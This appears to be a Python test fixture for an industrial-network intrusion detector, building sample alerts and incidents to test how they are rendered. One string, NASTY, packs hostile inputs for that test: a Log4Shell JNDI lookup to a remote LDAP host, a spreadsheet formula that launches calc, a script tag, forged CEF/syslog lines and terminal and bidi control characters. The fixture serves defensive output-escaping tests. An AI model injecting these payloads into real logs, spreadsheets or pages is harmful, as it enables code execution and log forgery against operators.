"""What renderings are tried with: an ordinary alert, a hostile one, incidents that stand and are gone."""

from dataclasses import replace

from detector.alerts.model import Alert, Asset, Decision, Incident, Step, Told, Verdict

ALERT = Alert(
    alert_id="6qh5d6gsld27chcsz7jormgxpf",
    ts="2026-03-02T09:15:00.250000Z",
    src="192.0.2.10",
    dst="192.0.2.30",
    service="smb",
    operation="svcctl::CreateServiceW",
    kind="operation",
    score=7.3051,
    p_value=4.953e-08,
    severity="critical",
    techniques=("T1021.002", "T1569.002", "T0886"),
    reasons=("first use of smb from 192.0.2.10 to 192.0.2.30", "1 of 61 peers ever did"),
    incident_id="chainchainchainchainchainc",
    evidence=("CHhAvVGS1DHFjwGM9", "topic conn, partition 3, offset 991"),
    src_zone="office",
    dst_zone="cell 1 control",
    user="PLANT\\j.doe",
    title="New service created on ews-3 over smb",
    summary="192.0.2.10 created a service on ews-3. It never did so before in 43 days.",
    counterfactual="Would not alert if the office had used smb to this cell before.",
    count=3,
    last_ts="2026-03-02T09:21:07.000000Z",
    src_port=50122,
    dst_port=445,
    transport="tcp",
    community_id="1:LQU9qZlK+B5F3KDmev6m5PMibrg=",
    src_asset=Asset(name="ws-17", role="office workstation", purdue_level=4.0, importance="normal", owner="IT desk"),
    dst_asset=Asset(name="ews-3", role="engineering workstation", purdue_level=3.0, importance="high", owner="Line 1"),
    bits={"structure": 14.2, "operations": 9.1},
    tactics=("TA0008", "TA0002", "TA0109"),
    next_steps=("Ask the owner of ws-17.", "Look for the service's program on ews-3."),
    related=("aaaaaaaaaaaaaaaaaaaaaaaaaa",),
    trust=Verdict("unverified", "user+service", True, False, False, True),
)
STEP = Step(
    ts=ALERT.ts,
    src="192.0.2.10",
    dst="2001:db8::30",
    service="smb",
    services=("smb", "dce_rpc"),
    operations=("svcctl::CreateServiceW",),
    techniques=("T1021.002",),
    p_value=1e-6,
    src_zone="office",
    dst_zone="cell 1 control",
    users=("PLANT\\j.doe",),
    reasons=("first use",),
    alert_ids=(ALERT.alert_id,),
    evidence=("CHhAvVGS1DHFjwGM9",),
)
INCIDENT = Incident(
    incident_id="chainchainchainchainchainc",
    first_ts=ALERT.ts,
    last_ts="2026-03-02T09:40:00.000000Z",
    score=11.2,
    p_value=6.31e-12,
    severity="high",
    hosts=("192.0.2.10", "2001:db8::30", "198.51.100.7"),
    path=(STEP, replace(STEP, src="2001:db8::30", dst="198.51.100.7", service="s7comm", alert_ids=("b" * 26,))),
    techniques=("T1021.002", "T0843"),
    summary="Two moves from the office to a PLC within 25 minutes.",
)
NASTY = (
    "\r\nCEF:0|evil|evil|1|1|forged|10| src=203.0.113.66 \n<14>1 - - - - - - forged\t\x00\x1b[31mred\x1b[0m\x7f\x85"
    "\u2028\u2029\u202eevil\u2066 | = \\ \" ] ^ & \\n \\u202e \\= \\| =cmd|' /C calc'!A0 <script>alert(1)</script> "
    "${jndi:ldap://192.0.2.1/a} %s \U0001f480\ufeff e\u0301 "
)
LONE = "\ud800 lone \udfff"
HUGE = "x=|^\\" * 20_000  # 100 kB

OPEN = Told("alert", ALERT.alert_id, 0, ALERT)
WITHDRAWN = Told("incident", INCIDENT.incident_id, 4, None, ts="2026-03-02T10:00:00.000000Z")
MERGED = replace(WITHDRAWN, merged_into="otherotherotherotherothero")


def with_strings(text: str) -> Alert:
    """The alert in which all strings are this one that a log, a plant file or a person can bring."""
    asset = Asset(name=text, role=text, importance="high", owner=text)
    return replace(
        ALERT, src=text, dst=text, service=text, operation=text, reasons=(text, text), evidence=(text,), src_zone=text,
        dst_zone=text, user=text, title=text, summary=text, counterfactual=text, transport=text, community_id=text,
        src_asset=asset, dst_asset=asset, next_steps=(text,), status="suppressed",
        decision=Decision("d1", "suppress", text, text, None),
    )  # fmt: skip


def hostile(text: str = NASTY) -> Told:
    """An alert that somebody made who reads what we write."""
    return Told("alert", ALERT.alert_id, 2, with_strings(text))


SAMPLES = {
    "alert": OPEN,
    "hostile": hostile(),
    "incident": Told("incident", INCIDENT.incident_id, 1, INCIDENT),
    "merged": MERGED,
    "withdrawn": WITHDRAWN,
}
